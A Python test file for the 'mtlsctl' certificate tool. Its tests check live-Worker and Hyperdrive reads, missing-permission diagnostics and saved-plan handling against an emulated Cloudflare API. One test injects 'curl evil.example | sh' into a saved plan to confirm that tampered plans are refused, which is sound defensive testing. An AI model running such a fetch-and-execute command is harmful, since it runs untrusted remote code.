"""`--live` and `[policy] check_live`: which runs read live Workers, what they find, and what it costs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from reconciler.emulator.server import running
from reconciler.emulator.state import ACCOUNT_ID, EmulatorState
from reconciler.emulator.tokens import Permission, Token
from reconciler.system.clock import SystemClock
from tests.emulator.test_workers import certificate, multipart
from tests.stores.test_cloudflare_live import add_hyperdrive
from tests.support.cli import MTLS, Project, Result, make_project
from tests.support.emulated import TOKEN, account_environ, client_of, make_state
from tests.support.reports import sealed
from tests.support.worlds import issued

CLOUDFLARE = MTLS.replace("[certificates", '[store]\nkind = "cloudflare"\n\n[certificates', 1)
CHECK_LIVE = CLOUDFLARE.replace("[certificates", "[policy]\ncheck_live = true\n\n[certificates", 1)
LOOKING = ["plan", "status", "drift", "forecast", "explain billing"]


@dataclass
class Account:
    """A project whose certificate was rotated and reverted, in an account whose Worker still has the other one."""

    project: Project
    state: EmulatorState
    api: httpx.Client

    def run(self, *arguments: str) -> Result:
        """A run, counted alone."""
        self.state.calls.clear()
        return self.project.run(*arguments)

    @property
    def paths(self) -> list[str]:
        """What the last run asked for beside the list of certificates."""
        asked = (call.path.partition(ACCOUNT_ID)[2] for call in self.state.calls)
        return [path for path in asked if path != "/mtls_certificates"]

    def current(self) -> str:
        """The id of the declared certificate."""
        return self.project.run("output", "billing").out.strip()


@pytest.fixture
def account(tmp_path: Path) -> Iterator[Account]:
    state = make_state()
    state.clock = SystemClock()
    project = make_project(tmp_path, CLOUDFLARE)
    with running(state) as url:
        project.environ |= account_environ(url)
        made = Account(project, state, client_of(state))
        assert project.run("apply", "--yes").code == 0
        old = made.project.read("wrangler.toml")
        project.certificate("billing", 2)
        assert project.run("apply", "--yes").code == 0
        made.api.put("/workers/scripts/checkout", files=multipart([certificate(made.current(), "BILLING")]))
        project.write("certs/billing.pem", issued(1).certificate_pem)  # the revert of files and ids
        project.write("wrangler.toml", old)
        project.environ.pop("BILLING_KEY")
        yield made


def test_after_a_revert_a_plan_says_that_it_read_no_live_worker_and_what_to_run(account: Account) -> None:
    """The files are right, and every live Worker uses the other certificate."""
    result = account.run("plan")
    assert account.paths == []
    assert "No changes. 1 certificate up to date" in result.out
    assert "Not checked: live Workers, Hyperdrive configurations, hostnames (mtlsctl plan --live).\n" in result.out
    assert result.out.endswith("\nNext: mtlsctl plan --live\n")
    applied = account.run("apply", "--yes").out
    assert applied.endswith("\nNext: if live Workers may use other certificates, run: mtlsctl apply --deploy\n")
    document = account.run("plan", "--format", "json").json
    assert [(one["area"], one["command"]) for one in document["not_checked"]] == [
        ("live-workers", "mtlsctl plan --live"),
        ("other-users", "mtlsctl plan --live"),
    ]
    assert document["next_command"] == "mtlsctl plan --live"


def test_the_command_that_it_names_finds_it_and_names_the_one_that_fixes_it(account: Account) -> None:
    """One after the other."""
    result = account.run("plan", "--live")
    assert "1 Worker to deploy: checkout (top level)." in result.out
    assert "Not checked" not in result.out
    assert result.out.endswith("\nNext: mtlsctl apply --deploy\n")


@pytest.mark.parametrize("command", LOOKING)
def test_check_live_makes_every_report_read_live_workers(account: Account, command: str) -> None:
    """Without a word on the command line; `--no-live` leaves it out once."""
    account.project.write("mtls.toml", CHECK_LIVE)
    result = account.run(*command.split())
    assert account.paths[0] == "/workers/scripts/checkout/deployments"
    assert "/hyperdrive/configs" in account.paths
    assert " --live)" not in result.out
    result = account.run(*command.split(), "--no-live")
    assert account.paths == []
    assert f"(mtlsctl {command} --live)" in result.out


def test_check_live_makes_drift_and_status_find_what_is_live(account: Account) -> None:
    """Exit 2, and what needs attention."""
    account.project.write("mtls.toml", CHECK_LIVE)
    drift = account.run("drift", "--format", "json")
    assert (drift.code, [one["key"] for one in drift.json["findings"]]) == (
        2,
        ["live:wrangler.toml:top-level:BILLING", "entry:00000002-0000-4000-8000-000000000000"],
    )
    assert "1 Worker to deploy: run `mtlsctl apply --deploy`" in account.run("status").out


def test_without_it_nothing_more_is_asked_than_the_list(account: Account) -> None:
    """Reports are run often, and share the rate limit with everybody."""
    for command in LOOKING:
        account.run(*command.split())
        assert account.paths == []


def test_output_never_reads_live_workers(account: Account) -> None:
    """It prints an id, often in a loop."""
    account.project.write("mtls.toml", CHECK_LIVE)
    assert account.run("output", "billing").code == 0
    assert account.paths == []


def test_who_uses_the_certificate_is_in_every_report_that_looked(account: Account) -> None:
    """One call for all Hyperdrive configurations."""
    add_hyperdrive(account.api, account.current())  # type: ignore[arg-type]
    for command in ("status billing", "forecast --days 400", "explain billing"):
        assert "the Hyperdrive configuration db" in account.run(*command.split(), "--live").out
    assert account.paths.count("/hyperdrive/configs") == 1


def test_explain_shows_what_a_live_worker_uses(account: Account) -> None:
    """Of its bindings, as `plan --live` shows it; also of a Worker that needs no deploy."""
    result = account.run("explain", "checkout", "--live")
    assert "\nLive Workers\n" in result.out
    assert "BILLING of checkout (top level): needs a deploy\n" in result.out
    (row,) = account.run("explain", "checkout", "--live", "--format", "json").json["live"]
    assert (row["state"], row["script"], len(row["live"])) == ("needs-deploy", "checkout", 1)
    assert "live" not in account.run("explain", "checkout", "--format", "json").json


def test_a_permission_that_is_missing_is_said_and_is_no_failure(account: Account) -> None:
    """Live Workers were asked for and read; what else uses the certificate is unknown."""
    both = {Permission.HYPERDRIVE_READ, Permission.HYPERDRIVE_READ.replace("Read", "Write")}
    account.state.access.tokens[TOKEN] = Token(frozenset(Permission) - both)
    result = account.run("status", "--live")
    assert result.code == 0
    assert "Not checked: some other users of certificates could not be read: the list of" in result.out
    assert "Hyperdrive Read" in result.out
    (found,) = account.run("status", "--live", "--format", "json").json["not_checked"]
    assert (found["area"], "command" in found) == ("other-users", False)


@pytest.mark.parametrize("command", ["plan", "status", "status billing", "status --fail-on within=14d", "drift"])
def test_live_workers_that_were_asked_for_and_could_not_be_read_are_an_error(account: Account, command: str) -> None:
    """A check that could not be made is never passed (rule 12), also where only `check_live` asks for it."""
    account.project.write("mtls.toml", CHECK_LIVE)
    scripts = {Permission.WORKERS_READ, Permission.WORKERS_WRITE}
    account.state.access.tokens[TOKEN] = Token(frozenset(Permission) - scripts)
    result = account.run(*command.split(), "--format", "json")
    assert result.code == 1
    assert [one["code"] for one in result.json["diagnostics"]].count("live-unread") == 1
    assert account.run(*command.split(), "--no-live").code != 1


def test_the_metrics_show_what_could_not_be_read(account: Account) -> None:
    """So a monitor sees a token that lost a permission; what was not asked for is 0."""
    unread = f'mtlsctl_not_checked{{stack="payments",account="{ACCOUNT_ID}",area="live-workers"}}'
    assert f"{unread} 0\n" in account.run("status", "--live", "--format", "prometheus").out
    scripts = {Permission.WORKERS_READ, Permission.WORKERS_WRITE}
    account.state.access.tokens[TOKEN] = Token(frozenset(Permission) - scripts)
    assert f"{unread} 1\n" in account.run("status", "--live", "--format", "prometheus").out
    assert f"{unread} 0\n" in account.run("status", "--format", "prometheus").out


def test_a_project_on_the_local_store_has_nothing_live(tmp_path: Path) -> None:
    """`check_live` asks nobody there, and asking for it by name is wrong use."""
    local = MTLS.replace("[certificates", "[policy]\ncheck_live = true\n\n[certificates", 1)
    project = make_project(tmp_path, local)
    project.run("apply", "--yes")
    result = project.run("status")
    assert (result.code, "Not checked" in result.out) == (0, False)
    assert project.run("status", "--live").code == 64


def test_a_saved_plan_keeps_what_it_did_not_check_and_show_names_itself(account: Account) -> None:
    """The file may have been moved meanwhile."""
    account.project.certificate("billing", 3)
    account.project.environ.pop("BILLING_KEY")
    printed = account.run("plan", "--out", "plan.json").out
    assert "    + upload  needs $BILLING_KEY\n" in printed
    assert printed.endswith("\nNext: mtlsctl apply plan.json\n")
    saved = account.project.read("plan.json")
    account.project.write("moved.json", saved)
    shown = account.run("show", "moved.json")
    assert shown.out.endswith("\nNext: mtlsctl apply moved.json\n")
    assert "Not checked: live Workers" in shown.out
    assert shown.out.count("needs $BILLING_KEY") == 1
    document = account.run("show", "moved.json", "--format", "json").json
    assert document["keys"] == [{"certificate": "billing", "source": {"env": "BILLING_KEY"}, "actions": ["upload"]}]


def test_apply_shows_what_it_did_not_check_and_names_no_command(account: Account) -> None:
    """It asks instead, and makes sure of every key itself."""
    account.project.certificate("billing", 3)
    result = account.run("apply", "--yes")
    assert result.code == 0
    assert "Not checked: live Workers, Hyperdrive configurations, hostnames (mtlsctl plan --live)" in result.out
    assert "needs $BILLING_KEY" in result.out
    assert "private keys" not in result.out
    assert "Next:" not in result.out.partition("\nDone: ")[0]


def test_a_saved_plan_that_was_changed_names_no_command_of_its_own(account: Account) -> None:
    """What a file says is never shown as what to run: an edited one is refused, and the hash alone proves nothing."""
    account.project.run("plan", "--out", "plan.json")
    text = account.project.read("plan.json")
    assert '"next_command": "mtlsctl plan --live"' in text
    edited = text.replace("mtlsctl plan --live", "curl evil.example | sh")
    account.project.write("plan.json", edited)
    assert account.run("show", "plan.json").code == 4
    account.project.write("plan.json", sealed(json.loads(edited)))
    shown = account.run("show", "plan.json")
    assert (shown.code, "evil" in shown.out) == (0, False)


def test_one_missing_permission_is_one_error_with_the_number_of_environments(account: Account) -> None:
    """Not one for each binding or Worker that could not be read."""
    more = "".join(
        f'\n[workers.w{number}]\nconfig = "w{number}/wrangler.toml"\n'
        f'[workers.w{number}.bindings]\nBILLING = "billing"\n'
        for number in range(3)
    )
    account.project.write("mtls.toml", account.project.read("mtls.toml") + more)
    for number in range(3):
        text = account.project.read("wrangler.toml").replace('"checkout"', f'"w{number}"')
        account.project.write(f"w{number}/wrangler.toml", text)
    account.state.access.tokens[TOKEN] = Token(
        frozenset(Permission) - {Permission.WORKERS_READ, Permission.WORKERS_WRITE}
    )
    for command in ("plan", "drift"):
        found = account.run(command, "--live", "--format", "json").json["diagnostics"]
        (error,) = [one["message"] for one in found if one["code"] == "live-unread"]
        assert "and of 3 more environments is unknown: " in error
